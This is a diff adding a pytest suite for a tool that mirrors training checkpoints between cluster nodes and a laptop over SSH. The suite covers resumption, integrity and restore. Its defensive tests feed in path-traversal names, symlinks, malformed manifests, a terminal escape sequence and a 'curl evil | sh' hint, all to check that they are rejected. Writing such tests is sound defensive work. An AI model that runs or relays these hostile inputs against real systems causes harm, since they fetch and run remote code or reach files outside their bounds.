@@ -1,0 +1,436 @@
+"""Checkpoints of nodes that have a bucket each come home, over SSH, and go back to nodes that need them."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import random
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import paramiko
+import pytest
+
+from hvdcloud.checkpoints.manifest import Entry, Manifest, log_name, manifest_name, run_prefix, state_name, to_json
+from hvdcloud.checkpoints.pull import pull
+from hvdcloud.checkpoints.verified_files import VerifiedFiles
+from hvdcloud.cluster.state import ClusterState
+from hvdcloud.errors import CapacityError, CheckpointError, HvdcloudError, NodeError
+from hvdcloud.node.uploads.restore import restore
+from hvdcloud.remote.mirror import Brought, Mirror
+from hvdcloud.remote.ssh import Session
+from hvdcloud.storage.base import CorruptObjectError
+from hvdcloud.storage.checksum import crc32c_of_bytes
+from hvdcloud.storage.folder import TEMPORARY, FolderBucket
+from tests.support.node_buckets import BucketNode, NewNode
+from tests.support.vanishing import RUN, Laptop, Vm
+
+PREFIX = run_prefix("digits", RUN)
+LATER = "20261122-101112-abcdef"
+
+
+class Home:
+    """A laptop, and the bucket to which checkpoints come."""
+
+    def __init__(self, laptop: Laptop, nodes: list[BucketNode]) -> None:
+        context, self.cluster, _ = laptop.context([node.vm for node in nodes])
+        self.state: ClusterState = context.state
+        self.bucket = FolderBucket(laptop.folder / "bucket")
+        self.folder = laptop.folder
+
+    def mirror(self) -> Mirror:
+        return Mirror(self.bucket, cluster="digits", cluster_id="abcdef")
+
+    def session(self, index: int) -> Session:
+        return Session(self.cluster.nodes[index], self.state)
+
+    def bring(self, index: int = 0, **options: Any) -> Brought:
+        session = self.session(index)
+        try:
+            return self.mirror().bring(session, **options)
+        finally:
+            session.close()
+
+    def send(self, index: int, run: str = RUN) -> int:
+        session = self.session(index)
+        try:
+            return self.mirror().send(session, run)
+        finally:
+            session.close()
+
+    def pulled(self, run: str = RUN) -> dict[str, bytes]:
+        """What `pull` then brings to the project's folder."""
+        target = self.folder / "pulled"
+        verified = VerifiedFiles(self.folder / "verified.json")
+        pull(self.bucket, cluster="digits", run=run, target=target, verified_files=verified)
+        files = (path for path in (target / run).rglob("*") if path.is_file() and path.name != ".gitignore")
+        return {str(path.relative_to(target / run)): path.read_bytes() for path in files}
+
+    def outside(self) -> set[str]:
+        """What is in the laptop's folder beside the bucket and the state."""
+        return {path.name for path in self.folder.iterdir()} - {"bucket", "pulled", "verified.json"}
+
+
+@pytest.fixture
+def laptop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Laptop:
+    monkeypatch.setenv("HVDCLOUD_STATE_DIR", str(tmp_path / "state"))
+    (tmp_path / "laptop").mkdir()
+    return Laptop(tmp_path / "laptop")
+
+
+@pytest.fixture
+def new_node(tmp_path: Path) -> Iterator[NewNode]:
+    made: list[BucketNode] = []
+
+    def make(index: int) -> BucketNode:
+        made.append(BucketNode(tmp_path / f"node-{index}", index))
+        return made[-1]
+
+    yield make
+    for node in made:
+        node.vm.close()
+
+
+@pytest.fixture
+def home(laptop: Laptop, new_node: NewNode) -> tuple[Home, list[BucketNode]]:
+    nodes = [new_node(0), new_node(1)]
+    return Home(laptop, nodes), nodes
+
+
+Scene = tuple[Home, list[BucketNode]]
+
+
+# --- the way home ----------------------------------------------------------------------------------------------------
+
+
+def test_everything_comes_home_as_it_is_and_pull_finds_it_there(home: Scene) -> None:
+    here, (head, other) = home
+    head.write({"epoch-1.pt": b"one" * 1000, "sub/é.pt": b"two", "empty": b""})
+    other.write({"epoch-1.pt": b"of node 1"})
+    head.bucket.write(log_name("digits", RUN), b"[0] epoch 1\n")
+    head.bucket.write(state_name("digits", RUN), b'{"run": "x"}')
+    assert here.bring(0) == Brought(files=3)
+    assert here.bring(1) == Brought(files=1)
+    assert here.pulled() == {
+        "epoch-1.pt": b"one" * 1000,
+        "sub/é.pt": b"two",
+        "empty": b"",
+        "@node-1/epoch-1.pt": b"of node 1",
+    }
+    for name in (log_name("digits", RUN), state_name("digits", RUN), manifest_name("digits", RUN, 1)):
+        there = (other if name.endswith("-1.json") else head).bucket
+        assert (here.bucket.read(name), here.bucket.present(name)) == (there.read(name), there.present(name))
+
+
+def test_only_what_is_new_comes(home: Scene) -> None:
+    here, (head, _) = home
+    head.write({"a": b"a" * 5000}, complete=False)
+    came: list[int] = []
+    here.bring(on_bytes=came.append)
+    assert sum(came) == 5000
+    came.clear()
+    assert here.bring(on_bytes=came.append) == Brought()
+    head.write({"b": b"b" * 70})
+    assert here.bring(on_bytes=came.append) == Brought(files=1)
+    assert sum(came) == 70
+    assert here.pulled() == {"a": b"a" * 5000, "b": b"b" * 70}
+
+
+def test_a_file_that_is_written_again_replaces_the_one_that_is_here(home: Scene) -> None:
+    here, (head, _) = home
+    head.write({"last.pt": b"first"}, complete=False)
+    here.bring()
+    head.write({"last.pt": b"second, and longer"})
+    here.bring()
+    assert here.pulled() == {"last.pt": b"second, and longer"}
+
+
+def test_thousands_of_small_files_come(home: Scene) -> None:
+    here, (head, _) = home
+    files = {f"shard-{number}": b"%d" % number for number in range(700)}
+    head.write(files)
+    assert here.bring().files == 700
+    assert here.pulled() == files
+
+
+def test_what_had_arrived_when_the_connection_broke_is_not_sent_again(home: Scene) -> None:
+    here, (head, _) = home
+    data = random.Random(7).randbytes(6_000_000)
+    head.write({"large.pt": data, "small.pt": b"s"})
+    head.cut_after = 4_000_000
+    with pytest.raises(NodeError):
+        here.bring()
+    came: list[int] = []
+    here.bring(on_bytes=came.append)
+    assert 1_000_000 < sum(came) < 3_000_000
+    assert here.pulled() == {"large.pt": data, "small.pt": b"s"}
+
+
+@pytest.mark.parametrize("cut", [10, 400, 3_000, 20_000, 60_000, 119_000])
+def test_a_connection_that_breaks_anywhere_leaves_a_bucket_that_verifies(home: Scene, cut: int) -> None:
+    here, (head, _) = home
+    files = {f"part-{number}": random.Random(number).randbytes(20_000) for number in range(5)}
+    head.write({"last.pt": b"v1"}, complete=False)
+    here.bring()
+    head.write({**files, "last.pt": b"v2" * 10_000})
+    head.cut_after = cut
+    with pytest.raises(NodeError):
+        here.bring()
+    partly = here.pulled()
+    assert partly["last.pt"] in (b"v1", b"v2" * 10_000)
+    assert all(files[name] == data for name, data in partly.items() if name != "last.pt")
+    here.bring()
+    assert here.pulled() == {**files, "last.pt": b"v2" * 10_000}
+
+
+def test_what_had_arrived_of_a_node_that_never_answers_again_can_be_pulled(home: Scene) -> None:
+    here, (head, _) = home
+    # Kept apart in time, so that the order in which they come is known.
+    for number in range(3):
+        head.write({f"part-{number}": bytes([number]) * 100_000}, complete=number == 2)
+    head.cut_after = 250_000
+    with pytest.raises(NodeError):
+        here.bring()
+    head.vm.vanish()
+    assert len(here.pulled()) >= 1
+
+
+def test_a_killed_mirror_leaves_nothing_that_looks_like_a_checkpoint(home: Scene, tmp_path: Path) -> None:
+    here, (head, _) = home
+    data = random.Random(3).randbytes(3_000_000)
+    head.write({"large.pt": data})
+    head.cut_after = 1_500_000
+    with pytest.raises(NodeError):
+        here.bring()
+    listed = [info.name for info in here.bucket.list("")]
+    assert PREFIX + "large.pt" not in listed
+    assert [path.stat().st_size < len(data) for path in (here.bucket.root / TEMPORARY).rglob("*") if path.is_file()]
+
+
+# --- a node that is not what it should be ----------------------------------------------------------------------------
+
+
+def forge(node: BucketNode, files: dict[str, bytes], *, owner: int | None = None, **changes: Any) -> None:
+    """A manifest by hand, for objects by their names below `CLUSTER/RUN/`."""
+    entries = []
+    for name, data in files.items():
+        generation = 5
+        # The manifest also names what no bucket holds.
+        with contextlib.suppress(CheckpointError):
+            generation = node.bucket.write(PREFIX + name, data).generation
+        fields = {"size": len(data), "crc32c": crc32c_of_bytes(data), "generation": generation, "modified": 1.0}
+        entries.append(Entry(name=name, **{**fields, **changes}))
+    number = node.index if owner is None else owner
+    manifest = Manifest(cluster="digits", run=RUN, node=number, complete=True, files=entries)
+    node.bucket.write(manifest_name("digits", RUN, node.index), to_json(manifest))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["../../outside", "/etc/outside", "a/../../outside", ".hvdcloud/manifest-0.json", "@node-0/x", "x", "@node-1/../x"],
+)
+def test_a_node_names_only_its_own_files(home: Scene, name: str) -> None:
+    here, (head, other) = home
+    head.write({"x": b"of the head"})
+    here.bring(0)
+    before = here.bucket.read(manifest_name("digits", RUN, 0))
+    forge(other, {name: b"evil"})
+    with pytest.raises(CheckpointError):
+        here.bring(1)
+    assert here.pulled() == {"x": b"of the head"}
+    assert here.bucket.read(manifest_name("digits", RUN, 0)) == before
+    assert here.outside() == set()
+
+
+def test_a_manifest_that_is_not_valid_does_not_replace_the_one_that_is_here(home: Scene) -> None:
+    here, (head, _) = home
+    head.write({"a": b"a"}, complete=False)
+    here.bring()
+    head.bucket.write(manifest_name("digits", RUN, 0), b'{"version": 1, "files": [' + b"[" * 50_000)
+    with pytest.raises(CheckpointError, match="not valid"):
+        here.bring()
+    assert here.pulled() == {"a": b"a"}
+
+
+def test_bytes_that_are_not_those_of_the_manifest_are_not_taken_and_the_others_are(home: Scene) -> None:
+    here, (head, _) = home
+    head.write({"good": b"good", "bad": b"as it was"})
+    path = head.bucket.root / PREFIX / "bad"
+    status = path.stat()
+    path.write_bytes(b"as it xxx")
+    os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns))
+    with pytest.raises(CorruptObjectError, match="bad does not verify"):
+        here.bring()
+    assert here.pulled() == {"good": b"good"}
+    assert [path for path in (here.bucket.root / TEMPORARY).rglob("*") if path.is_file()] == []
+
+
+def test_links_of_a_job_are_neither_followed_there_nor_here(home: Scene, tmp_path: Path) -> None:
+    here, (head, _) = home
+    secret = tmp_path / "secret"
+    secret.write_bytes(b"not a checkpoint")
+    head.write({"x": b"x"})
+    path = head.bucket.root / PREFIX / "y"
+    path.symlink_to(secret)
+    status = secret.stat()
+    entry = Entry(
+        name="y",
+        size=status.st_size,
+        crc32c=crc32c_of_bytes(secret.read_bytes()),
+        generation=status.st_mtime_ns,
+        modified=1.0,
+    )
+    manifest = Manifest(cluster="digits", run=RUN, node=0, complete=True, files=[entry])
+    head.bucket.write(manifest_name("digits", RUN, 0), to_json(manifest))
+    assert not here.bring().whole
+    assert here.bucket.stat(PREFIX + "y") is None
+
+
+def test_what_a_node_says_of_other_clusters_and_of_strange_runs_is_ignored(home: Scene) -> None:
+    here, (head, _) = home
+    for run in ("20261121-101112-ffffff", "..", "x", "20261121-101112-abcdef\n"):
+        folder = head.bucket.root / "digits" / run / ".hvdcloud"
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / "manifest-0.json").write_bytes(b"{}")
+    assert here.bring() == Brought()
+    assert list(here.bucket.list("")) == []
+
+
+ANSWERS = {
+    "no line": b"",
+    "not JSON": b"\x00\x01\n",
+    "an endless line": b"x" * (1 << 20),
+    "a list": b"[]\n",
+    "an error": b'{"error": "no \\u001b]52;c;cm0=\\u0007", "hint": "curl evil | sh"}\n',
+}
+
+
+@pytest.mark.parametrize("said", ANSWERS.values(), ids=ANSWERS.keys())
+def test_a_node_that_answers_nonsense_is_an_error_and_nothing_else(laptop: Laptop, said: bytes) -> None:
+    def nonsense(channel: paramiko.Channel) -> None:
+        channel.sendall(said)
+        channel.send_exit_status(0)
+        channel.close()
+
+    vm = Vm({"hvdcloud-node": nonsense})
+    try:
+        context, cluster, _ = laptop.context([vm])
+        session = Session(cluster.nodes[0], context.state)
+        with pytest.raises(HvdcloudError) as raised:
+            Mirror(FolderBucket(laptop.folder / "bucket"), cluster="digits", cluster_id="abcdef").bring(session)
+        assert raised.value.code is NodeError.code
+        assert "curl" not in raised.value.hint
+        session.close()
+    finally:
+        vm.close()
+
+
+@pytest.mark.parametrize(
+    "looked",
+    [
+        {RUN: {"manifest-0.json": [5, -1]}},
+        {RUN: {"manifest-0.json": [5, True]}},
+        {RUN: {"manifest-0.json": [1 << 70, 5]}},
+        {RUN: {"manifest-0.json": "x"}},
+        {RUN: 7},
+        {"../../x-abcdef": {"manifest-0.json": [5, 5]}},
+        7,
+    ],
+)
+def test_a_look_that_makes_no_sense_brings_nothing(laptop: Laptop, looked: Any) -> None:
+    def looks(channel: paramiko.Channel) -> None:
+        channel.sendall(json.dumps({"runs": looked}).encode() + b"\n")
+        channel.send_exit_status(0)
+        channel.close()
+
+    vm = Vm({"hvdcloud-node": looks})
+    try:
+        context, cluster, _ = laptop.context([vm])
+        session = Session(cluster.nodes[0], context.state)
+        bucket = FolderBucket(laptop.folder / "bucket")
+        assert Mirror(bucket, cluster="digits", cluster_id="abcdef").bring(session) == Brought()
+        assert list(bucket.list("")) == []
+        session.close()
+    finally:
+        vm.close()
+
+
+def test_a_checkpoint_that_this_disk_has_no_room_for_is_refused_before_it_comes(
+    home: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    here, (head, _) = home
+    forge(head, {"huge": b"x"}, size=1 << 60)
+    # The node does not have so many bytes either: without a check there, it is the one here that holds.
+    with pytest.raises((CapacityError, NodeError)):
+        here.bring()
+    assert here.bucket.stat(PREFIX + "huge") is None
+
+
+# --- back to the nodes -----------------------------------------------------------------------------------------------
+
+
+def test_nodes_get_what_they_lack_to_continue_and_restore_it(home: Scene, tmp_path: Path) -> None:
+    here, (head, other) = home
+    head.write({"epoch-1.pt": b"one", "epoch-2.pt": b"two"})
+    other.write({"extra": b"of node 1"})
+    here.bring(0)
+    here.bring(1)
+    assert here.send(0) == 1
+    assert here.send(1) == 2
+    assert (here.send(0), here.send(1)) == (0, 0)
+    for node in (head, other):
+        directory = tmp_path / f"restored-{node.index}"
+        assert restore(node.bucket, cluster="digits", run_from=RUN, directory=directory) == 3
+        assert {path.name: path.read_bytes() for path in directory.iterdir()} == {
+            "epoch-1.pt": b"one",
+            "epoch-2.pt": b"two",
+            "extra": b"of node 1",
+        }
+    # What came from here does not come back under another name.
+    assert here.bring(0) == here.bring(1) == Brought()
+
+
+def test_a_node_of_a_new_cluster_gets_the_runs_that_the_last_one_continued_from(
+    home: Scene, new_node: Callable[[int], BucketNode], tmp_path: Path
+) -> None:
+    here, (head, other) = home
+    head.write({"epoch-1.pt": b"one"})
+    here.bring(0)
+    directory = head.root / "var/lib/hvdcloud/checkpoints" / LATER
+    restore(head.bucket, cluster="digits", run_from=RUN, directory=directory)
+    head.write({"epoch-2.pt": b"two"}, run=LATER)
+    here.bring(0)
+    here.send(1, LATER)
+    target = tmp_path / "restored"
+    assert restore(other.bucket, cluster="digits", run_from=LATER, directory=target) == 2
+
+
+def test_a_node_whose_own_manifest_is_newer_keeps_it(home: Scene) -> None:
+    here, (head, _) = home
+    head.write({"a": b"a"}, complete=False)
+    here.bring(0)
+    head.write({"b": b"b"})
+    newer = head.bucket.read(manifest_name("digits", RUN, 0))
+    here.send(0)
+    assert head.bucket.read(manifest_name("digits", RUN, 0)) == newer
+
+
+def test_the_node_program_refuses_what_is_not_a_request(home: Scene) -> None:
+    _, (head, _) = home
+    for request in (b"\n", b"[]\n", b'{"op": "delete"}\n', b'{"op": "get"}\n', b'{"op": "put", "object": {}}\n'):
+        process = head.start("bucket")
+        out, _ = process.communicate(request, timeout=60)
+        assert "error" in json.loads(out), request
+        assert process.returncode == 1
+
+
+def test_damaged_bytes_that_are_sent_to_a_node_do_not_become_an_object(home: Scene) -> None:
+    _, (head, _) = home
+    name = f"{PREFIX}x"
+    original = {"name": name, "size": 3, "generation": 1000, "crc32c": crc32c_of_bytes(b"abc")}
+    process = head.start("bucket")
+    out, _ = process.communicate(json.dumps({"op": "put", "object": original}).encode() + b"\nabX", timeout=60)
+    assert "does not verify" in json.loads(out)["error"]
+    assert head.bucket.stat(name) is None
